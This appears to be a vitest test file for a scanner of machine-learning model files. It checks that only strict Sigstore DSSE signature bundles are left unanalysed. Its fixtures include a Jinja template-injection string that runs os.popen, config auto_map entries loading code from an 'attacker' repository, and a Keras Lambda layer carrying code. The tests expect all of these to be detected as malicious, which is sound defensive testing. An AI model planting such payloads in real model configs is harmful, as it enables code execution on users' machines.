// The `oms-signature` label (inert: never analysed) goes only to a file that is exactly a strict
// Sigstore DSSE bundle: JSON with the text "dsseEnvelope" or a bundle media type anywhere, or a
// bundle with any key the schema lacks, is JSON a loader reads, and gets the JSON analyses.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { detectText } from "../../../src/formats/text/index.js";
import { buildZip } from "../../containers/zip-builder.js";
import { ruleIds, SAMPLES, scanOne } from "../../helpers/scan.js";

const bundleText = readFileSync(join(SAMPLES, "integrity/signatures/key-p256.sig"), "utf8");
const bundle = () => JSON.parse(bundleText) as Record<string, unknown>;
const bytes = (value: unknown) => new Uint8Array(Buffer.from(JSON.stringify(value)));
const detect = (b: Uint8Array, name: string) => detectText({ head: b, size: b.length, name } as never)?.format;
const SSTI =
  "{{ cycler.__init__.__globals__.os.popen('touch /tmp/x').read() }}{% for m in messages %}{{ m['content'] }}{% endfor %}";

describe("oms-signature label", () => {
  it("labels a strict bundle, and only when the whole file is in the head", () => {
    const b = new Uint8Array(Buffer.from(bundleText));
    expect(detect(b, "model.sig")).toBe("oms-signature");
    expect(detect(b, "tokenizer_config.json")).toBe("oms-signature");
    // a head that is not the whole file cannot be shown to hold nothing else
    expect(detectText({ head: b, size: b.length + 10, name: "model.sig" } as never)?.format).toBe("json");
  });

  it("never labels JSON that merely mentions dsseEnvelope or the bundle media type", () => {
    const poc = bytes({
      model_type: "llama",
      auto_map: { AutoConfig: "attacker/payload--configuration_evil.EvilConfig" },
      dsseEnvelope: null,
    });
    expect(detect(poc, "config.json")).toBe("json");
    expect(detect(bytes({ a: "dsseEnvelope", mediaType: "application/vnd.dev.sigstore.bundle" }), "x.json")).toBe(
      "json",
    );
    // a real bundle with one extra key anywhere in the schema's objects, or a duplicated key
    const extraTop = { ...bundle(), chat_template: SSTI };
    const extraEnvelope = bundle();
    (extraEnvelope.dsseEnvelope as Record<string, unknown>).auto_map = {};
    const extraMaterial = bundle();
    (extraMaterial.verificationMaterial as Record<string, unknown>).class_name = "Lambda";
    for (const value of [extraTop, extraEnvelope, extraMaterial]) expect(detect(bytes(value), "a.json")).toBe("json");
    const duplicated = bundleText.replace(/^\{/, '{"mediaType":"x",');
    expect(detect(new Uint8Array(Buffer.from(duplicated)), "a.json")).toBe("json");
    // not an in-toto payload
    const other = bundle();
    (other.dsseEnvelope as Record<string, unknown>).payloadType = "text/plain";
    expect(detect(bytes(other), "model.sig")).toBe("json");
  });

  it("analyses a config.json with an external auto_map and a dsseEnvelope key (F1 poc3)", async () => {
    const poc = bytes({
      model_type: "llama",
      architectures: ["EvilForCausalLM"],
      auto_map: {
        AutoConfig: "attacker/payload--configuration_evil.EvilConfig",
        AutoModelForCausalLM: "attacker/payload--modeling_evil.EvilForCausalLM",
      },
      dsseEnvelope: null,
    });
    const file = await scanOne(poc, "config.json");
    expect(file.format).toBe("json");
    expect(file.verdict).not.toBe("clean");
    const control = await scanOne(
      bytes({ model_type: "llama", architectures: ["EvilForCausalLM"], auto_map: { AutoConfig: "attacker/p--c.C" } }),
      "config.json",
    );
    expect(ruleIds(file)).toEqual(expect.arrayContaining(ruleIds(control)));
  });

  it("analyses a tokenizer_config.json chat template beside a dsseEnvelope key (F1 poc4)", async () => {
    const file = await scanOne(
      bytes({ tokenizer_class: "LlamaTokenizer", chat_template: SSTI, dsseEnvelope: null }),
      "tokenizer_config.json",
    );
    expect(file.verdict).toBe("malicious");
  });

  it("analyses a copied signature turned into a tokenizer config (F2 poc1 content)", async () => {
    const value = {
      ...bundle(),
      chat_template: SSTI,
      auto_map: { AutoTokenizer: ["attacker/tok--tokenization_evil.EvilTokenizer", null] },
    };
    const file = await scanOne(bytes(value), "tokenizer_config.json");
    expect(file.format).toBe("json");
    expect(file.verdict).toBe("malicious");
  });

  it("analyses the config.json of a .keras archive that carries a dsseEnvelope key (F1 k2)", async () => {
    const lambda = {
      module: "keras.layers",
      class_name: "Lambda",
      config: {
        name: "l",
        function: { class_name: "__lambda__", config: { code: "4wAAAAAAAAAA", defaults: null, closure: null } },
      },
    };
    const config = {
      module: "keras",
      class_name: "Sequential",
      config: { name: "s", layers: [lambda] },
      registered_name: null,
      dsseEnvelope: null,
    };
    const weights = readFileSync(join(SAMPLES, "keras/clean/sequential_legacy.h5"));
    const zip = buildZip([
      { name: "metadata.json", data: '{"keras_version": "3.13.0", "date_saved": "2025-01-01@00:00:00"}' },
      { name: "config.json", data: JSON.stringify(config) },
      { name: "model.weights.h5", data: new Uint8Array(weights) },
    ]);
    const file = await scanOne(zip, "model.keras");
    expect(file.verdict).toBe("malicious");
  });

  it("keeps a real signature inert and clean", async () => {
    const file = await scanOne(new Uint8Array(Buffer.from(bundleText)), "model.sig");
    expect(file.format).toBe("oms-signature");
    expect(file.verdict).toBe("clean");
  });
});
